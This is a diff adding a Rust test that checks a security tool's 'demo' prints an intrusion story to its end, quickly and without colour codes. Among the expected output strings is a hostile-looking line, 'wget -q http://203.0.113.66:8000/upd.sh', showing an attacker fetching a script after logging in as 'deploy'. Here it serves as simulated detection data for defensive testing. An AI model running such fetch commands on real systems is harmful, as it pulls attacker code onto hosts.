@@ -1,0 +1,30 @@
+//! `demo` ends by itself, with the alerts that the story must give, and steers no terminal.
+
+use std::time::{Duration, Instant};
+
+use super::{code, run, stderr};
+
+#[test]
+fn the_story_is_told_to_its_end() {
+    let begun = Instant::now();
+    let output = run(&["demo"]);
+    let told = String::from_utf8(output.stdout.clone()).unwrap();
+    assert_eq!(code(&output), 0, "{told}{}", stderr(&output));
+    assert!(
+        begun.elapsed() < Duration::from_secs(30),
+        "{:?}",
+        begun.elapsed()
+    );
+    for wanted in [
+        "and then got in as deploy",
+        "deploy logged on from 203.0.113.66",
+        "wget -q http://203.0.113.66:8000/upd.sh",
+        "10.20.0.5:38810 -> 203.0.113.66:8000",
+        "indicator 198.51.100.0/28",
+        "kept byte for byte",
+        "What to try next",
+    ] {
+        assert!(told.contains(wanted), "'{wanted}' in\n{told}");
+    }
+    assert!(!told.contains('\x1b'), "colour where nobody looks");
+}
